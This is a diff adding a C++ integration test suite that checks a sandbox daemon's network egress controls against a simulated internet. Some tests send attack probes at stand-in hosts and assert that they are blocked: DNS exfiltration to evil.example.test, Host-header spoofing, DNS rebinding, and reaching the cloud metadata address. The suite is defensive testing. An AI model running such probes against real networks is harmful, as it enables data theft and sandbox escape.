@@ -1,0 +1,499 @@
+// Sandbox networking end to end (docs/networking.md): a real spaced with a fake internet
+// the test makes — a network namespace holding TEST-NET addresses (203.0.113.0/24 behind
+// 198.51.100.0/24), dnsmasq as the upstream resolver, and HTTP, TLS, banner and UDP servers
+// that log every connection — so "blocked" means that no byte reached the server, not only
+// that the client failed. Clients run inside the sandbox (busybox) and, for TLS, in the
+// sandbox's network namespace (the host's curl), which is the same data path.
+#include <fcntl.h>
+#include <sched.h>
+#include <sys/socket.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <poll.h>
+#include <unistd.h>
+
+#include <fstream>
+#include <regex>
+#include <sstream>
+#include <thread>
+
+#include "net/dns.h"
+#include "net/net.h"
+#include "tests/integration/harness.h"
+
+namespace space::testing {
+namespace {
+
+using namespace std::chrono_literals;
+
+std::string Sh(const std::string& cmd, int* code = nullptr) {
+  sys::SpawnOptions so;
+  so.argv = {"/bin/sh", "-c", cmd};
+  auto r = sys::Run(so, 60000);
+  if (!r) {
+    if (code) *code = -1;
+    return r.error().message;
+  }
+  if (code) *code = r->exit_code;
+  return r->out + r->err;
+}
+
+bool Have(const char* tool) { return Sh(std::string("command -v ") + tool + " >/dev/null 2>&1 && echo y") == "y\n"; }
+
+// The fake internet. Everything it makes is removed by the destructor, failure or not.
+class FakeNet {
+ public:
+  explicit FakeNet(const std::string& dir) : dir_(dir) {
+    unsigned r = static_cast<unsigned>(::getpid()) & 0xffff;
+    char buf[16];
+    std::snprintf(buf, sizeof buf, "%04x", r);
+    ns_ = std::string("fakenet-") + buf;
+    host_if_ = std::string("fkh") + buf;
+  }
+  ~FakeNet() {
+    servers_.reset();
+    dnsmasq_.reset();
+    Sh("ip route del 203.0.113.0/24 via 198.51.100.2 2>/dev/null; ip link del " + host_if_ +
+       " 2>/dev/null; ip netns del " + ns_ + " 2>/dev/null");
+  }
+
+  bool Start(std::string* why) {
+    int code = 0;
+    std::string out = Sh(
+        "set -e; ip netns add " + ns_ + "; ip link add " + host_if_ + " type veth peer name eth0 netns " + ns_ +
+            "; ip addr add 198.51.100.1/24 dev " + host_if_ + "; ip link set " + host_if_ + " up" +
+            "; ip -n " + ns_ + " link set lo up; ip -n " + ns_ + " link set eth0 up" +
+            "; ip -n " + ns_ + " addr add 198.51.100.2/24 dev eth0; ip -n " + ns_ +
+            " addr add 198.51.100.53/24 dev eth0" + "; ip -n " + ns_ + " addr add 203.0.113.10/32 dev lo" +
+            "; ip -n " + ns_ + " addr add 203.0.113.66/32 dev lo" + "; ip -n " + ns_ +
+            " route add default via 198.51.100.1" + "; ip route add 203.0.113.0/24 via 198.51.100.2",
+        &code);
+    if (code != 0) {
+      *why = "fake internet: " + out;
+      return false;
+    }
+    // A test root CA and a server certificate for the fake hosts.
+    out = Sh("set -e; cd " + dir_ +
+                 "; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 "
+                 "-subj /CN=fakenet-root -keyout ca.key -out ca.pem 2>/dev/null"
+                 "; openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.example.test "
+                 "-keyout srv.key -out srv.csr 2>/dev/null"
+                 "; printf 'subjectAltName=DNS:api.example.test,DNS:evil.example.test,DNS:other.example.test\\n' > ext"
+                 "; openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 "
+                 "-extfile ext -out srv.pem 2>/dev/null",
+             &code);
+    if (code != 0) {
+      *why = "certificates: " + out;
+      return false;
+    }
+    std::string log = dir_ + "/dnsmasq.log";
+    auto dm = sys::Spawn({.argv = {"ip", "netns", "exec", ns_, "dnsmasq", "--keep-in-foreground",
+                                   "-C", "/dev/null", "--no-resolv", "--no-hosts", "--user=root",
+                                   "--pid-file=", "--bind-interfaces",
+                                   "--listen-address=198.51.100.53", "--port=53",
+                                   "--address=/api.example.test/203.0.113.10",
+                                   "--address=/evil.example.test/203.0.113.66",
+                                   "--address=/other.example.test/203.0.113.66",
+                                   "--address=/rebind.example.test/10.0.0.5", "--log-queries",
+                                   "--log-facility=" + log},
+                          .die_with_parent = true});
+    if (!dm) {
+      *why = "dnsmasq: " + dm.error().message;
+      return false;
+    }
+    dnsmasq_ = std::make_unique<sys::ChildProcess>(std::move(*dm));
+    std::string ready = dir_ + "/servers.ready";
+    std::string slog = dir_ + "/servers.log";
+    std::string cert = dir_ + "/srv.pem:" + dir_ + "/srv.key";
+    auto srv = sys::Spawn(
+        {.argv = {"ip", "netns", "exec", ns_, "/usr/bin/python3", std::string(SPACE_SOURCE_DIR) + "/tests/integration/fakenet_server.py",
+                  "--log", slog, "--ready", ready, "--http", "203.0.113.10:80", "--http", "203.0.113.66:80",
+                  "--https", "203.0.113.10:443:" + cert, "--https", "203.0.113.66:443:" + cert,
+                  "--banner", "203.0.113.10:2222", "--udp", "203.0.113.10:7", "--udp", "203.0.113.66:7"},
+         .die_with_parent = true});
+    if (!srv) {
+      *why = "servers: " + srv.error().message;
+      return false;
+    }
+    servers_ = std::make_unique<sys::ChildProcess>(std::move(*srv));
+    for (int i = 0; i < 200 && !(sys::Exists(ready) && sys::Exists(log)); ++i) std::this_thread::sleep_for(25ms);
+    if (!sys::Exists(ready)) {
+      *why = "servers did not start";
+      return false;
+    }
+    return true;
+  }
+
+  std::string ServerLog() const {
+    auto l = sys::ReadFile(dir_ + "/servers.log");
+    return l ? *l : "";
+  }
+  std::string DnsLog() const {
+    auto l = sys::ReadFile(dir_ + "/dnsmasq.log");
+    return l ? *l : "";
+  }
+  // How many log lines name `listen` ("203.0.113.66:80") with the given kind.
+  int Count(const std::string& listen, const std::string& kind = "connect") const {
+    std::istringstream in(ServerLog());
+    std::string line;
+    int n = 0;
+    while (std::getline(in, line)) {
+      if (line.find("\"listen\": \"" + listen + "\"") != std::string::npos &&
+          line.find("\"kind\": \"" + kind + "\"") != std::string::npos)
+        ++n;
+    }
+    return n;
+  }
+  std::string ca() const { return dir_ + "/ca.pem"; }
+
+ private:
+  std::string dir_, ns_, host_if_;
+  std::unique_ptr<sys::ChildProcess> dnsmasq_, servers_;
+};
+
+class NetworkTest : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    std::string why;
+    if (!CanRunSandboxes(&why)) return;
+    if (!Have("nft") || !Have("dnsmasq") || !Have("openssl") || !Have("curl")) {
+      skip_ = "needs nft, dnsmasq, openssl and curl (make deps)";
+      return;
+    }
+    auto t = sys::TempDir::Create("/tmp", "space-fakenet-");
+    tmp_ = new sys::TempDir(std::move(*t));
+    net_ = new FakeNet(tmp_->path());
+    if (!net_->Start(&why)) {
+      setup_error_ = why;
+      return;
+    }
+    daemon_ = new Daemon({"--dns-upstream", "198.51.100.53", "--sandbox-subnet", "10.214.0.0/24",
+                          "--egress-preset", "fake=api.example.test,*.cdn.example.test"});
+    if (!daemon_->Start()) setup_error_ = "spaced did not start";
+  }
+  static void TearDownTestSuite() {
+    if (daemon_) {
+      auto real = sys::RealPath(daemon_->data_dir());
+      std::string tag = net::TagForDataDir(real ? *real : daemon_->data_dir());
+      delete daemon_;
+      daemon_ = nullptr;
+      // Whatever spaced left would be a bug; the checks are in HygieneAfterDeleteAndCrash.
+      Sh("for n in $(ip netns list | awk '{print $1}' | grep '^space-" + tag + "-'); do ip netns del $n; done; "
+         "nft delete table inet space_" + tag + " 2>/dev/null");
+    }
+    delete net_;
+    net_ = nullptr;
+    delete tmp_;
+    tmp_ = nullptr;
+  }
+  void SetUp() override {
+    SPACE_REQUIRE_SANDBOXES();
+    if (!skip_.empty()) GTEST_SKIP() << skip_;
+    ASSERT_TRUE(setup_error_.empty()) << setup_error_;
+    ASSERT_NE(daemon_, nullptr);
+  }
+  client::Client& c() { return daemon_->client(); }
+  std::string tag() const { return net::TagForDataDir(*sys::RealPath(daemon_->data_dir())); }
+
+  std::string Create(const Json& network) {
+    std::string id = CreateSandbox(c(), {{"network", network}});
+    return id;
+  }
+  client::Client::RunOutput Run(const std::string& id, const std::string& cmd) {
+    auto r = c().Run(id, Json{{"cmd", cmd}});
+    EXPECT_TRUE(r) << (r ? "" : r.error().message);
+    return r ? *r : client::Client::RunOutput{};
+  }
+  // Runs a host program inside the sandbox's network namespace.
+  std::string InNetns(const std::string& id, const std::string& cmd, int* code = nullptr) {
+    return Sh("ip netns exec space-" + tag() + "-" + id + " " + cmd, code);
+  }
+  void Delete(const std::string& id) { (void)c().DeleteSandboxAndWait(id, 30s); }
+  // busybox's nc has no UDP: a UDP round trip from the sandbox's namespace.
+  std::string UdpPing(const std::string& id, const std::string& ip) {
+    return InNetns(id, "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_INET, "
+                       "socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'ping', ('" + ip + "', 7)); "
+                       "print(s.recv(100).decode())\" 2>&1");
+  }
+
+  static inline Daemon* daemon_ = nullptr;
+  static inline FakeNet* net_ = nullptr;
+  static inline sys::TempDir* tmp_ = nullptr;
+  static inline std::string skip_, setup_error_;
+};
+
+// The transparent path: no proxy variables (busybox wget would honour them).
+const std::string kNoProxy = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; ";
+
+TEST_F(NetworkTest, DefaultIsLoopbackOnly) {
+  std::string id = CreateSandbox(c());
+  ASSERT_FALSE(id.empty());
+  int before = net_->Count("203.0.113.10:80");
+  auto r = Run(id, "nc -w 2 203.0.113.10 80 </dev/null; echo rc=$?; ip -o link 2>/dev/null | wc -l; cat /proc/net/dev | tail -n +3 | wc -l");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(net_->Count("203.0.113.10:80"), before);
+  auto sb = c().GetSandbox(id);
+  ASSERT_TRUE(sb);
+  EXPECT_EQ((*sb)["network"]["mode"], "none");
+  Delete(id);
+}
+
+TEST_F(NetworkTest, InternetReachesPublicAddresses) {
+  std::string id = Create({{"mode", "internet"}});
+  ASSERT_FALSE(id.empty());
+  auto sb = c().GetSandbox(id);
+  ASSERT_TRUE(sb);
+  EXPECT_EQ((*sb)["network"]["mode"], "internet");
+  EXPECT_EQ((*sb)["network"]["allow_out"], Json::array());
+  EXPECT_EQ((*sb)["network"]["deny_out"], Json::array());
+  // Transparent: plain HTTP by address.
+  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/transparent");
+  EXPECT_NE(r.out.find("\"server\": \"203.0.113.10:80\""), std::string::npos) << r.out << r.err;
+  // By name: the sandbox's resolver is spaced's forwarder, upstream the fake dnsmasq.
+  r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/byname");
+  EXPECT_NE(r.out.find("GET /byname"), std::string::npos) << r.out << r.err;
+  // Through the explicit proxy the environment names (busybox wget honours http_proxy).
+  r = Run(id, "echo $http_proxy; wget -q -O - http://api.example.test/explicit");
+  EXPECT_NE(r.out.find(":3128"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("GET /explicit"), std::string::npos) << r.out << r.err;
+  // A server-first protocol on another port (like SSH) works: that port is not peeked.
+  r = Run(id, "echo hello | nc -w 3 203.0.113.10 2222");
+  EXPECT_NE(r.out.find("SSH-2.0-fakenet"), std::string::npos) << r.out << r.err;
+  // UDP by address.
+  std::string udp = UdpPing(id, "203.0.113.10");
+  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
+  // TLS is spliced (not intercepted): the client sees the server's own certificate.
+  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
+                                    " --resolve api.example.test:443:203.0.113.10 https://api.example.test/tls");
+  EXPECT_NE(out.find("\"sni\": \"api.example.test\""), std::string::npos) << out;
+  // The decisions are visible.
+  auto n = c().Call("GET", "/v1/sandboxes/" + id + "/network");
+  ASSERT_TRUE(n);
+  EXPECT_GE((*n)["decisions"].size(), 3u) << n->dump();
+  EXPECT_NE(n->dump().find("\"verdict\":\"allow\""), std::string::npos);
+  Delete(id);
+}
+
+TEST_F(NetworkTest, DenyAndAllowCidrs) {
+  std::string id = Create({{"mode", "internet"}, {"deny_out", {"203.0.113.66/32"}}});
+  ASSERT_FALSE(id.empty());
+  int before = net_->Count("203.0.113.66:80");
+  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/denied; echo rc=$?");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
+  int udp_before = net_->Count("203.0.113.10:7", "udp");
+  std::string udp = UdpPing(id, "203.0.113.10");
+  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
+  EXPECT_EQ(net_->Count("203.0.113.10:7", "udp"), udp_before + 1);
+  int udp_denied = net_->Count("203.0.113.66:7", "udp");
+  udp = UdpPing(id, "203.0.113.66");
+  EXPECT_EQ(udp.find("echo:"), std::string::npos) << udp;
+  EXPECT_EQ(net_->Count("203.0.113.66:7", "udp"), udp_denied) << "a datagram reached the denied server";
+  EXPECT_EQ(net_->Count("203.0.113.66:80"), before) << "a byte reached the denied server";
+  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/ok");
+  EXPECT_NE(r.out.find("GET /ok"), std::string::npos) << r.out << r.err;
+  // The explicit proxy says why.
+  r = Run(id, "wget -O - http://203.0.113.66/why 2>&1");
+  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
+  Delete(id);
+
+  // allow_out beats deny_out; with an allow list only it is reachable.
+  id = Create({{"allow_out", {"203.0.113.10/32"}}, {"deny_out", {"0.0.0.0/0"}}});
+  ASSERT_FALSE(id.empty());
+  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/allowed");
+  EXPECT_NE(r.out.find("GET /allowed"), std::string::npos) << r.out << r.err;
+  udp = UdpPing(id, "203.0.113.10");
+  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
+  before = net_->Count("203.0.113.66:80");
+  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/no; echo rc=$?");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos);
+  EXPECT_EQ(net_->Count("203.0.113.66:80"), before);
+  Delete(id);
+}
+
+TEST_F(NetworkTest, AlwaysDeniedHoldsUnderAllowAll) {
+  std::string a = Create({{"mode", "internet"}});
+  std::string b = Create({{"mode", "internet"}});
+  ASSERT_FALSE(a.empty());
+  ASSERT_FALSE(b.empty());
+  auto sb = c().GetSandbox(b);
+  ASSERT_TRUE(sb);
+  std::string other_ip = (*sb)["network"]["sandbox_ip"];
+  ASSERT_FALSE(other_ip.empty());
+  // b listens; a must not reach it, nor the host's own addresses, nor private ranges.
+  auto bg = c().StartCommand(b, {{"cmd", "nc -l -p 8080 -e echo hi-from-b"}});
+  ASSERT_TRUE(bg);
+  for (const std::string& dst : {other_ip + " 8080", std::string("198.51.100.1 80"),
+                                 std::string("10.0.0.5 80"), std::string("169.254.169.254 80"),
+                                 std::string("127.0.0.1 7070")}) {
+    auto r = Run(a, "nc -w 2 " + dst + " </dev/null; echo rc=$?");
+    EXPECT_EQ(r.out.find("hi-from-b"), std::string::npos) << dst;
+  }
+  auto r = Run(a, kNoProxy + "wget -q -O - http://198.51.100.1:" +
+                      std::to_string(std::stoi(daemon_->url().substr(daemon_->url().rfind(':') + 1))) +
+                      "/healthz; echo rc=$?");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out;
+  // DNS rebinding: a name that resolves into a private range is refused.
+  r = Run(a, "nslookup rebind.example.test; echo rc=$?");
+  EXPECT_EQ(r.out.find("10.0.0.5"), std::string::npos) << r.out;
+  // IPv6 is off inside.
+  r = Run(a, "cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null || echo gone");
+  EXPECT_TRUE(r.out == "1\n" || r.out == "gone\n") << r.out;
+  Delete(a);
+  Delete(b);
+}
+
+TEST_F(NetworkTest, DomainAllowlistByHostSniAndDns) {
+  std::string id = Create({{"allow_out", {"api.example.test"}}});
+  ASSERT_FALSE(id.empty());
+  auto r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/name");
+  EXPECT_NE(r.out.find("GET /name"), std::string::npos) << r.out << r.err;
+  // Names not allowed get NXDOMAIN without a query upstream (no DNS exfiltration).
+  std::string dns_before = net_->DnsLog();
+  r = Run(id, "nslookup secret-data.evil.example.test; echo rc=$?");
+  EXPECT_EQ(r.out.find("203.0.113.66"), std::string::npos) << r.out;
+  EXPECT_EQ(net_->DnsLog().find("secret-data"), std::string::npos) << "the query reached upstream";
+  // A spoofed Host header sent to the evil address reaches the allowed host instead:
+  // the proxy dials the name, not the address.
+  int evil = net_->Count("203.0.113.66:80"), api = net_->Count("203.0.113.10:80");
+  r = Run(id, kNoProxy + "wget -q -O - --header 'Host: api.example.test' http://203.0.113.66/spoof");
+  EXPECT_NE(r.out.find("\"server\": \"203.0.113.10:80\""), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(net_->Count("203.0.113.66:80"), evil);
+  EXPECT_EQ(net_->Count("203.0.113.10:80"), api + 1);
+  // An address not listed is refused even by IP; a name not listed likewise (explicit
+  // proxy: a 403 with the reason).
+  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/ip; echo rc=$?");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos);
+  r = Run(id, "wget -O - http://evil.example.test/ 2>&1");
+  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
+  EXPECT_EQ(net_->Count("203.0.113.66:80"), evil);
+  // TLS: SNI decides, and the name is what is dialled (SNI api -> .10 even when sent to .66).
+  int evil_tls = net_->Count("203.0.113.66:443");
+  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
+                                    " --resolve api.example.test:443:203.0.113.66 https://api.example.test/sni");
+  EXPECT_NE(out.find("\"server\": \"203.0.113.10:443\""), std::string::npos) << out;
+  int code = 0;
+  out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
+                        " --resolve evil.example.test:443:203.0.113.66 https://evil.example.test/", &code);
+  EXPECT_NE(code, 0) << out;
+  EXPECT_EQ(net_->Count("203.0.113.66:443"), evil_tls) << "a TLS byte reached the evil server";
+  // AAAA answers are empty (no IPv6), and quickly.
+  r = Run(id, "nslookup -type=AAAA api.example.test 2>&1; echo rc=$?");
+  EXPECT_EQ(r.out.find("has AAAA"), std::string::npos) << r.out;
+  Delete(id);
+
+  // Wildcards and presets: *.cdn.example.test is below the name only.
+  auto bad = c().CreateSandboxAndWait({{"network", {{"allow_out", {"not a name"}}}}}, 10s);
+  ASSERT_FALSE(bad);
+  EXPECT_NE(bad.error().message.find("not a name"), std::string::npos);
+  id = Create({{"allow_out", {"fake"}}});
+  ASSERT_FALSE(id.empty());
+  r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/preset");
+  EXPECT_NE(r.out.find("GET /preset"), std::string::npos) << r.out << r.err;
+  Delete(id);
+}
+
+TEST_F(NetworkTest, LiveUpdateCutsFlowsAndBadUpdatesChangeNothing) {
+  std::string id = Create({{"mode", "internet"}});
+  ASSERT_FALSE(id.empty());
+  auto cmd = c().StartCommand(id, {{"cmd", kNoProxy + "wget -q -O - http://203.0.113.10/slow > /tmp/slow; echo done=$?"}});
+  ASSERT_TRUE(cmd);
+  std::string cid = (*cmd)["id"];
+  std::this_thread::sleep_for(1500ms);
+  // Bad input first: refused, nothing changes.
+  auto bad = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"deny_out", {"203.0.113.10/33"}}});
+  ASSERT_FALSE(bad);
+  EXPECT_NE(bad.error().message.find("203.0.113.10/33"), std::string::npos);
+  bad = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"secrets", Json::array()}});
+  ASSERT_FALSE(bad);
+  auto now = c().GetSandbox(id);
+  EXPECT_EQ((*now)["network"]["deny_out"], Json::array());
+  auto ok = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"deny_out", {"203.0.113.10/32"}}});
+  ASSERT_TRUE(ok) << ok.error().message;
+  // The running download is cut well before its 60 s.
+  auto t0 = std::chrono::steady_clock::now();
+  Json done;
+  while (std::chrono::steady_clock::now() - t0 < 20s) {
+    auto g = c().GetCommand(id, cid);
+    if (g && (*g)["state"] != "running") {
+      done = *g;
+      break;
+    }
+    std::this_thread::sleep_for(100ms);
+  }
+  EXPECT_FALSE(done.is_null()) << "the flow was not cut";
+  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/after; echo rc=$?");
+  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out;
+  now = c().GetSandbox(id);
+  EXPECT_EQ((*now)["network"]["deny_out"], Json::array({"203.0.113.10/32"}));
+  Delete(id);
+  // A sandbox created without networking cannot be given some later.
+  std::string none = CreateSandbox(c());
+  auto refused = c().Call("PUT", "/v1/sandboxes/" + none + "/network", Json{{"mode", "internet"}});
+  ASSERT_FALSE(refused);
+  Delete(none);
+}
+
+TEST_F(NetworkTest, HygieneAfterDeleteAndCrash) {
+  std::string id = Create({{"mode", "internet"}});
+  ASSERT_FALSE(id.empty());
+  const std::string t = tag();
+  EXPECT_TRUE(sys::Exists("/run/netns/space-" + t + "-" + id));
+  EXPECT_NE(Sh("nft list table inet space_" + t).find("table inet"), std::string::npos);
+  // kill -9 and restart: the rules come back and the sandbox still gets out.
+  daemon_->Kill();
+  ASSERT_TRUE(daemon_->Start());
+  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/after-restart");
+  EXPECT_NE(r.out.find("GET /after-restart"), std::string::npos) << r.out << r.err << daemon_->Log();
+  Delete(id);
+  EXPECT_FALSE(sys::Exists("/run/netns/space-" + t + "-" + id));
+  EXPECT_EQ(Sh("ip -o link | grep -c ' s" + t + "-' || true"), "0\n");
+  int code = 0;
+  Sh("nft list table inet space_" + t, &code);
+  EXPECT_NE(code, 0) << "the table outlived the last networked sandbox";
+}
+
+TEST_F(NetworkTest, TemplateBuildRunStepsReachTheInternet) {
+  const std::string spec = "FROM base\nRUN wget -q -O /got http://api.example.test/build-step\n";
+  auto r = c().Request("POST", "/v1/templates?wait=120s",
+                       Json{{"name", "netbuild"}, {"tag", "v1"}, {"spec", spec}, {"network", true}}.dump(),
+                       "application/json");
+  ASSERT_TRUE(r);
+  ASSERT_LT(r->status, 300) << r->body;
+  auto op = ParseJson(r->body);
+  ASSERT_TRUE(op);
+  EXPECT_EQ((*op)["operation"]["state"], "succeeded") << r->body;
+  std::string id = CreateSandbox(c(), {{"template", "netbuild:v1"}});
+  ASSERT_FALSE(id.empty());
+  auto got = c().ReadFile(id, "/got");
+  ASSERT_TRUE(got) << got.error().message;
+  EXPECT_NE(got->find("GET /build-step"), std::string::npos) << *got;
+  Delete(id);
+  // Without network the same step fails: RUN has loopback only.
+  r = c().Request("POST", "/v1/templates?wait=120s",
+                  Json{{"name", "netbuild"}, {"tag", "v2"},
+                       {"spec", "FROM base\nRUN wget -q -O /got http://203.0.113.10/nonet\n"}}.dump(),
+                  "application/json");
+  ASSERT_TRUE(r);
+  auto op2 = ParseJson(r->body);
+  EXPECT_GE(r->status, 400) << r->body;
+  EXPECT_TRUE(op2 && op2->contains("operation") && (*op2)["operation"]["state"] == "failed") << r->body;
+  EXPECT_FALSE(sys::Exists("/run/netns") && Sh("ls /run/netns | grep -c 'space-" + tag() + "-bld' || true") != "0\n");
+}
+
+TEST_F(NetworkTest, BadInput) {
+  for (const Json& n : {Json{{"mode", "wifi"}}, Json{{"allow_out", {"1.2.3.4/99"}}},
+                        Json{{"deny_out", {"example.com"}}}, Json("internet"),
+                        Json{{"secrets", {{{"name", "K"}, {"value", "v"}}}}}}) {
+    auto r = c().CreateSandbox({{"network", n}});
+    ASSERT_FALSE(r) << n.dump();
+    EXPECT_EQ(r.error().code, Errc::kInvalidArgument) << n.dump() << " " << r.error().message;
+  }
+  Json many = Json::array();
+  for (int i = 0; i < 65; ++i) many.push_back("203.0.113." + std::to_string(i) + "/32");
+  auto r = c().CreateSandbox({{"network", {{"allow_out", many}}}});
+  ASSERT_FALSE(r);
+  EXPECT_NE(r.error().message.find("at most 64"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace space::testing
